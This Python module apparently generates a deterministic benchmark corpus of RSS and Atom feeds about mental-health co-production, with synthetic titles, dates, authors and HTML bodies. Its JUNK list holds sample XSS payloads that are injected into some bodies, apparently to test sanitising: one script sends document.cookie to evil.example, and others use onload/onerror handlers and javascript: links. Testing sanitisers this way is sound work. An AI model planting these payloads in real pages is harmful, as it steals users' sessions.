"""A deterministic corpus of RSS 2.0 and Atom feeds about co-production in mental health.

Every feed gets its own seeded random generator, so feed 7 is the same whatever --feeds is,
and two runs of the benchmark parse byte-identical files.
"""

from __future__ import annotations

import random
import re
from datetime import UTC, date, datetime, time, timedelta
from email.utils import format_datetime
from html import escape
from pathlib import Path

TOPICS = [
    "co-production", "co-producing services", "coproduction", "peer support", "peer-led groups",
    "peer workers", "power-sharing", "sharing power", "parity of esteem", "recovery",
    "recovery colleges", "Open Dialogue", "commissioning", "commissioners", "the CCG",
    "lived experience", "service user involvement", "survivor research", "experiential knowledge",
    "hearing voices groups", "psychosis", "extreme states", "mutual aid", "safe spaces",
    "community wellbeing", "asset based approaches", "governance", "accountability",
    "workforce training", "unlearning", "digital inclusion", "social media", "research",
    "crisis care", "carers", "advocacy", "personal budgets", "trauma-informed practice",
]
ACTORS = [
    "The network", "Our partners", "A peer worker from Leeds", "The recovery college", "Service users",
    "Clinicians and researchers", "The steering group", "Local commissioners", "A carers' forum",
    "The Open Dialogue team", "Survivor researchers", "The trust's board", "Volunteers", "Seminar organisers",
]
VERBS = [
    "published a report on", "ran a seminar about", "shared lessons learnt from",
    "asked hard questions about", "wrote a reflective piece on", "launched a pilot of",
    "reviewed the evidence on", "set up a working group on", "called for more funding for",
    "co-designed a training day about", "hosted a listening event on", "evaluated",
]
CLOSERS = [
    "Everyone is welcome, especially people with lived experience.",
    "The full report is free to download.",
    "Places are limited, so book early.",
    "We would love to hear what you think.",
    "It is a small step, but an important one.",
    "Tea, coffee & biscuits will be provided.",
    "Travel expenses are paid for service users and carers.",
]
PLACES = ["London", "Leeds", "Bristol", "Manchester", "West Cork", "Glasgow", "Cardiff", "Norwich", "Lapland"]
RELATIVE_LINKS = ["/events/peer-support-day", "../reports/co-production-2016.pdf", "resources/toolkit.html",
                  "/about/governance", "?page=2#comments"]
JUNK = [
    '<script>document.location="https://evil.example/steal?c="+document.cookie</script>',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<img src="x" onerror="alert(2)">',
    '<p onclick="track()">Click <a href="javascript:alert(3)">here</a> for more.</p>',
    '<iframe src="https://ads.example/frame"></iframe>',
    '<div style="position:fixed;top:0">Subscribe!</div><style>body{display:none}</style>',
]


def generate(folder: Path, feeds: int, items: int, as_of: date, seed: int = 2016) -> list[Path]:
    """Write `feeds` feed files of `items` items each into folder/feeds; return their paths."""
    out = folder / "feeds"
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for n in range(1, feeds + 1):
        rng = random.Random(f"{seed}-feed-{n}")
        atom = n % 4 == 0  # every 4th feed is Atom
        entries = [make_entry(rng, n, i, as_of) for i in range(1, items + 1)]
        text = atom_feed(n, entries, as_of) if atom else rss_feed(n, entries, as_of, cdata=n % 2 == 1)
        path = out / f"feed-{n:04d}.{'atom' if atom else 'rss'}.xml"
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths


def write_subscribers(path: Path, count: int) -> None:
    lines = ["email,name"] + [f"reader{n:03d}@example.org,Reader {n}" for n in range(1, count + 1)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


# ---- one item --------------------------------------------------------------------------------------

def make_entry(rng: random.Random, feed: int, index: int, as_of: date) -> dict:
    """Title, link, date, author, short summary and HTML body of one item."""
    topic = rng.choice(TOPICS)
    title = f"{rng.choice(ACTORS)} {rng.choice(VERBS)} {topic} in {rng.choice(PLACES)}"
    if rng.random() < 0.2:
        title += " & what comes next"
    slug = "-".join(w.strip("',&").lower() for w in title.split()[:6] if w.strip("',&"))
    return {
        "title": title,
        "link": f"https://partner-{feed:04d}.example.org/news/{slug}-{feed}-{index}",
        "published": published_in_month_before(rng, as_of),
        "author": f"{rng.choice(['Sam', 'Alex', 'Priya', 'Jo', 'Tomasz', 'Aisha'])} "
                  f"{rng.choice(['Okafor', 'Morgan', 'Shah', 'Fletcher', 'Nowak', 'Begum'])}",
        "summary": sentence(rng),
        "body": body_html(rng),
    }


def published_in_month_before(rng: random.Random, as_of: date) -> datetime:
    """A moment safely inside the calendar month before `as_of` (UTC, away from midnight edges)."""
    end = datetime.combine(as_of, time(0, 0), tzinfo=UTC) - timedelta(hours=3)
    start = datetime.combine(as_of.replace(day=1) - timedelta(days=1), time(0, 0), tzinfo=UTC)
    start = start.replace(day=1) + timedelta(hours=3)
    return start + timedelta(seconds=rng.randrange(int((end - start).total_seconds())))


def sentence(rng: random.Random) -> str:
    a, b = rng.sample(TOPICS, 2)
    return f"{rng.choice(ACTORS)} {rng.choice(VERBS)} {a}, with a focus on {b}."


def paragraph(rng: random.Random) -> str:
    """3-6 sentences with some inline markup, links (absolute and relative) and entities."""
    parts = []
    for _ in range(rng.randint(3, 6)):
        text = escape(sentence(rng), quote=False)
        roll = rng.random()
        if roll < 0.15:
            text = text.replace(" with a focus on ", ' with a focus on <a href="https://www.example.org/topics">', 1)
            text = text[:-1] + "</a>."
        elif roll < 0.30:
            text += f' <a href="{rng.choice(RELATIVE_LINKS)}">Read more&nbsp;&rarr;</a>'
        elif roll < 0.40:
            text = f"<em>{text}</em>"
        elif roll < 0.48:
            text = text.replace("The network", "<strong>The network</strong>")
            text += " It costs &pound;10 &ndash; or nothing if you&rsquo;re unwaged."
        elif roll < 0.52:
            text += ' Our <abbr title="Clinical Commissioning Group">CCG</abbr> agreed.'
        parts.append(text)
    parts.append(escape(rng.choice(CLOSERS), quote=False))
    return f"<p>{' '.join(parts)}</p>"


def body_html(rng: random.Random) -> str:
    """A few KB of realistic HTML: heading, paragraphs, a list, an image, a quote, sometimes junk."""
    blocks = [f"<h3>{escape(rng.choice(TOPICS).capitalize())}</h3>"] if rng.random() < 0.5 else []
    blocks += [paragraph(rng) for _ in range(rng.randint(3, 6))]
    bullets = "".join(f"<li>{escape(rng.choice(TOPICS))}: {escape(rng.choice(CLOSERS))}</li>"
                      for _ in range(rng.randint(3, 5)))
    blocks.insert(rng.randint(1, len(blocks)), f"<ul>{bullets}</ul>")
    blocks.insert(rng.randint(0, len(blocks)),
                  f'<figure><img src="/images/{rng.randint(1, 999)}.jpg" alt="People talking in a circle" '
                  f'width="600" height="400"><figcaption>A meeting in {rng.choice(PLACES)}</figcaption></figure>')
    if rng.random() < 0.3:
        blocks.append(f"<blockquote><p>&ldquo;{escape(sentence(rng))}&rdquo;</p></blockquote>")
    if rng.random() < 0.2:
        blocks.insert(rng.randint(0, len(blocks)), rng.choice(JUNK))
    return "\n".join(blocks)


# ---- whole feeds -------------------------------------------------------------------------------------

def rss_feed(n: int, entries: list[dict], as_of: date, *, cdata: bool) -> str:
    """RSS 2.0: odd feeds carry content:encoded in CDATA, even ones an entity-escaped description."""
    site = f"https://partner-{n:04d}.example.org/"
    items = []
    for e in entries:
        if cdata:
            body = (f"<description>{escape(e['summary'])}</description>\n"
                    f"      <content:encoded><![CDATA[{e['body']}]]></content:encoded>")
        else:
            body = f"<description>{escape(e['body'])}</description>"
        items.append(f"""    <item>
      <title>{escape(e['title'])}</title>
      <link>{e['link']}</link>
      <guid isPermaLink="true">{e['link']}</guid>
      <pubDate>{format_datetime(e['published'])}</pubDate>
      <dc:creator>{escape(e['author'])}</dc:creator>
      {body}
    </item>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Partner {n}: news</title>
    <link>{site}</link>
    <description>News from partner {n} of the co-production network (generated for the benchmark).</description>
    <language>en-gb</language>
    <lastBuildDate>{format_datetime(datetime.combine(as_of, time(0, 0), tzinfo=UTC))}</lastBuildDate>
{chr(10).join(items)}
  </channel>
</rss>
"""


def atom_feed(n: int, entries: list[dict], as_of: date) -> str:
    """Atom 1.0 with escaped HTML content and a plain-text summary."""
    site = f"https://partner-{n:04d}.example.org/"
    items = []
    for e in entries:
        items.append(f"""  <entry>
    <title type="text">{escape(e['title'])}</title>
    <link rel="alternate" type="text/html" href="{e['link']}"/>
    <id>{e['link']}</id>
    <published>{e['published'].isoformat()}</published>
    <updated>{e['published'].isoformat()}</updated>
    <author><name>{escape(e['author'])}</name></author>
    <summary type="text">{escape(e['summary'])}</summary>
    <content type="html">{escape(e['body'])}</content>
  </entry>""")
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-GB">
  <title>Partner {n}: news</title>
  <link rel="alternate" href="{site}"/>
  <id>{site}</id>
  <updated>{datetime.combine(as_of, time(0, 0), tzinfo=UTC).isoformat()}</updated>
{chr(10).join(items)}
</feed>
"""


def shipped_transforms_text(config: Path) -> str:
    """The [transforms.*] tables of a pipeline.toml (the shipped one), as written there (comments and all)."""
    keep, lines = False, []
    for line in config.read_text(encoding="utf-8").splitlines():
        header = re.match(r"\s*\[\[?\s*([^\]]+?)\s*\]\]?\s*(#.*)?$", line)
        if header:
            keep = header.group(1).split(".")[0].strip().strip('"') == "transforms"
        if keep:
            lines.append(line)
    return "\n".join(lines)
